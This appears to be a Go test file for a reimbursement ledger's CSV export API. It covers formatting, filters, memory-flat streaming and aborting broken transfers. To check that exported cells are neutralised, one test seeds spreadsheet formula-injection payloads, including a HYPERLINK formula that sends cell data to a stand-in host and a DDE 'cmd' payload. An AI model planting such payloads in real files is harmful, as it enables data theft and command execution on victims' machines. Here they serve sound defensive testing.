package httpapi_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"errors"
	"io"
	"net/http"
	"net/http/httptest"
	"runtime"
	"runtime/metrics"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/reimbursement-ledger/ledger/backend/app"
	"github.com/reimbursement-ledger/ledger/backend/auth/authtest"
	"github.com/reimbursement-ledger/ledger/backend/httpapi"
	"github.com/reimbursement-ledger/ledger/backend/inmem"
	"github.com/reimbursement-ledger/ledger/backend/postgres/postgrestest"
)

// open sends a GET with the caller's token and returns the answer with its
// body unread, for answers too large to hold.
func (a *ledgerAPI) open(path string) *http.Response {
	a.t.Helper()
	req, err := http.NewRequest(http.MethodGet, a.url+path, nil)
	if err != nil {
		a.t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+a.token)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		a.t.Fatal(err)
	}
	a.t.Cleanup(func() { res.Body.Close() })
	return res
}

const exportHeader = "id,bank_id,bank_member_id,bank_account_id,amount,currency,description,status," +
	"submitted_at,decided_at,decided_by,denial_reason,payment_status,version,receipt_count"

// The export is the bank's list as a spreadsheet takes it: a header row,
// RFC 4180 records, amounts as decimal strings, the lists' filters, and no
// cell a spreadsheet would run as a formula.
func TestExportCSV(t *testing.T) {
	api := newAPI(t)
	admin := api.as(api.admin())
	descriptions := []string{
		`=HYPERLINK("http://evil.example/?"&A1,"Receipt")`,
		"+1+1", "-2+3", "@SUM(A1:A9)", "\tTab first", "\rCarriage return first",
		"Lunch, with \"quotes\"\nand a line break",
	}
	for _, d := range descriptions {
		api.post("/v1/reimbursements", `{"bank_account_id":"`+api.dir.Account.ID.String()+`","amount":"12.30","description":`+jsonString(d)+`}`).want(t, http.StatusCreated)
	}
	denied := api.submit("1000")
	at := admin.post("/v1/reimbursements/"+denied.str("id")+"/deny", `{"reason":"=cmd|' /C calc'!A0"}`).want(t, http.StatusOK).header.Get("Ledger-Position")
	export := "/v1/banks/" + api.dir.Bank.ID.String() + "/reimbursements/export"

	// The export reads the lists' read model: min_position waits for the denial.
	res := admin.open(export + "?min_position=" + at)
	raw, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") ||
		!strings.Contains(res.Header.Get("Content-Disposition"), "attachment") {
		t.Fatalf("export: %d %s %s", res.StatusCode, res.Header.Get("Content-Type"), res.Header.Get("Content-Disposition"))
	}
	if !bytes.HasPrefix(raw, []byte(exportHeader+"\r\n")) || !bytes.HasSuffix(raw, []byte("\r\n")) {
		t.Fatalf("the export does not start with the header row and end with CRLF:\n%q", raw)
	}
	records, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, raw)
	}
	if len(records) != 1+len(descriptions)+1 {
		t.Fatalf("%d records, want the header and %d rows", len(records), len(descriptions)+1)
	}
	// Newest first: the denial, then the descriptions in reverse.
	row := records[1]
	if row[0] != denied.str("id") || row[4] != "1000.00" || row[7] != "denied" || row[11] != `'=cmd|' /C calc'!A0` || row[9] == "" || row[10] != api.dir.Admin.ID.String() {
		t.Fatalf("the denied row: %q", row)
	}
	for i, d := range descriptions {
		row := records[len(records)-1-i]
		want := d
		if strings.ContainsAny(d[:1], "=+-@\t\r") {
			want = "'" + d
		}
		if row[6] != want || row[4] != "12.30" || row[5] != "USD" || row[7] != "pending" || row[9] != "" || row[11] != "" || row[12] != "none" || row[13] != "1" {
			t.Errorf("row of %q: %q, want the description %q", d, row, want)
		}
	}

	// The lists' filters, and their answers to bad values.
	filtered, err := csv.NewReader(admin.open(export + "?status=denied&amount_min=999.999").Body).ReadAll()
	if err != nil || len(filtered) != 2 || filtered[1][0] != denied.str("id") {
		t.Fatalf("export of the denied over 999.999: %q, %v", filtered, err)
	}
	empty, err := io.ReadAll(admin.open(export + "?submitted_to=2000-01-01").Body)
	if err != nil || string(empty) != exportHeader+"\r\n" {
		t.Fatalf("an export of nothing: %q, %v; want the header row alone", empty, err)
	}
	if r := admin.get(export+"?amount_max=ten").wantProblem(t, http.StatusBadRequest); r.fieldError("amount_max") == "" {
		t.Fatalf("a bad filter: %s", r.raw)
	}
	api.as(api.otherAdmin()).get(export).wantProblem(t, http.StatusNotFound)
}

// An export streams: however many rows, the server holds one batch at a
// time. 200,000 rows are written straight into the read model, then read
// back through the API while the heap's live bytes are sampled after a
// collection, before the request and every 20,000 rows read. Holding the rows, or the CSV, would grow the
// heap by tens of megabytes; streaming keeps it within a few.
func TestExportStreamsWithFlatMemory(t *testing.T) {
	const rows = 200_000
	api := newAPI(t)
	if _, err := api.db.SQL().Exec(`
		INSERT INTO reimbursements_view (id, bank_id, bank_member_id, bank_account_id, amount, currency, description, status,
			submitted_at, submitted_position, payment_status, version)
		SELECT gen_random_uuid(), $1, $2, $3, (i % 100000) / 100.0 + 1, 'USD',
			'Expense number ' || i || ', with a description of some length', 'pending',
			now() - make_interval(secs => $4 - i), 1000000 + i, 'none', 1
		FROM generate_series(1, $4::int) AS i`, api.dir.Bank.ID, api.dir.Member.ID, api.dir.Account.ID, rows); err != nil {
		t.Fatal(err)
	}
	if _, err := api.db.SQL().Exec(`ANALYZE reimbursements_view`); err != nil { // the statistics autovacuum would gather: without them each batch's plan is a guess
		t.Fatal(err)
	}

	live := []metrics.Sample{{Name: "/gc/heap/live:bytes"}}
	sample := func() uint64 {
		runtime.GC()
		metrics.Read(live)
		return live[0].Value.Uint64()
	}
	before := sample()
	res := api.as(api.admin()).open("/v1/banks/" + api.dir.Bank.ID.String() + "/reimbursements/export")
	if res.StatusCode != http.StatusOK {
		t.Fatalf("export: %d", res.StatusCode)
	}
	in := bufio.NewReader(res.Body)
	var lines, bytesRead int
	var peak uint64
	for {
		line, err := in.ReadSlice('\n')
		bytesRead += len(line)
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("after %d lines: %v", lines, err)
		}
		lines++
		if lines%20_000 == 0 {
			peak = max(peak, sample())
		}
	}
	if lines != rows+1 {
		t.Fatalf("read %d lines, want %d rows and the header", lines, rows)
	}
	const bound = 8 << 20
	t.Logf("%d bytes of CSV; live heap %d KiB before, at most %d KiB while streaming", bytesRead, before>>10, peak>>10)
	if bytesRead < 5*bound {
		t.Fatalf("the export is %d bytes: too small for the bound to tell streaming from holding it", bytesRead)
	}
	if peak > before+bound {
		t.Fatalf("the live heap grew by %d KiB while streaming %d bytes: the export holds what it has sent", (peak-before)>>10, bytesRead)
	}
}

// failingReadModel fails every list after the first ok ones.
type failingReadModel struct {
	app.ReadModel
	ok atomic.Int32
}

func (m *failingReadModel) ListReimbursements(ctx context.Context, q app.ListQuery) (app.ListPage, error) {
	if m.ok.Add(-1) < 0 {
		return app.ListPage{}, errors.New("the database went away")
	}
	return m.ReadModel.ListReimbursements(ctx, q)
}

// An export that breaks after its first rows were sent cannot change its
// status any more: it ends the connection, so that the client sees a broken
// transfer rather than a complete-looking file that is short. One that
// breaks before sending anything answers a problem.
func TestExportBrokenMidwayIsNoCompleteFile(t *testing.T) {
	stores := inmem.New(nil).Stores()
	failing := &failingReadModel{ReadModel: stores.Reimbursements}
	stores.Reimbursements = failing
	a := app.New(app.Config{Stores: stores, AuditKeys: postgrestest.AuditKeys, ExportBatch: 2})
	issuer := authtest.NewIssuer(t)
	srv := httptest.NewServer(httpapi.New(httpapi.Config{App: a, Tokens: issuer.Verifier(),
		Ready: func(context.Context) error { return nil }, Logger: quiet, API: true}))
	t.Cleanup(srv.Close)
	api := &ledgerAPI{t: t, url: srv.URL, dir: mustInmemDirectory(t, a), issuer: issuer}
	for range 5 {
		api.submit("1.00")
	}
	export := "/v1/banks/" + api.dir.Bank.ID.String() + "/reimbursements/export"

	failing.ok.Store(1) // the first batch, of two, then a failure
	res := api.as(api.admin()).open(export)
	body, err := io.ReadAll(res.Body)
	if res.StatusCode != http.StatusOK || !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Fatalf("an export broken after its first batch: %d, read %v; want 200 and an unexpected EOF: %s", res.StatusCode, err, body)
	}
	if lines := strings.Count(string(body), "\r\n"); lines > 3 {
		t.Fatalf("%d lines arrived, want at most the header and the first batch", lines)
	}

	failing.ok.Store(0)
	api.as(api.admin()).get(export).wantProblem(t, http.StatusInternalServerError)
}

// brokenWriter is a client gone after the headers: every body write
// fails.
type brokenWriter struct{ header http.Header }

func (w *brokenWriter) Header() http.Header              { return w.header }
func (w *brokenWriter) WriteHeader(int)                  {}
func (w *brokenWriter) Write([]byte) (int, error)        { return 0, errors.New("connection reset by peer") }
func (w *brokenWriter) Flush()                           {}
func (w *brokenWriter) SetWriteDeadline(time.Time) error { return nil }

// An export whose rows cannot be written ends the connection even when
// that was its last batch: the failed write is not forgotten and the
// response is not finished as if the file were whole.
func TestExportThatCannotWriteItsLastBatchAborts(t *testing.T) {
	stores := inmem.New(nil).Stores()
	a := app.New(app.Config{Stores: stores, AuditKeys: postgrestest.AuditKeys})
	issuer := authtest.NewIssuer(t)
	handler := httpapi.New(httpapi.Config{App: a, Tokens: issuer.Verifier(),
		Ready: func(context.Context) error { return nil }, Logger: quiet, API: true})
	srv := httptest.NewServer(handler)
	t.Cleanup(srv.Close)
	api := &ledgerAPI{t: t, url: srv.URL, dir: mustInmemDirectory(t, a), issuer: issuer}
	api.submit("1.00") // one batch, the last

	req := httptest.NewRequest(http.MethodGet, "/v1/banks/"+api.dir.Bank.ID.String()+"/reimbursements/export", nil)
	req.Header.Set("Authorization", "Bearer "+api.admin())
	defer func() {
		if r := recover(); r != http.ErrAbortHandler {
			t.Fatalf("recovered %v, want http.ErrAbortHandler: the failed write was lost", r)
		}
	}()
	handler.ServeHTTP(&brokenWriter{header: http.Header{}}, req)
}
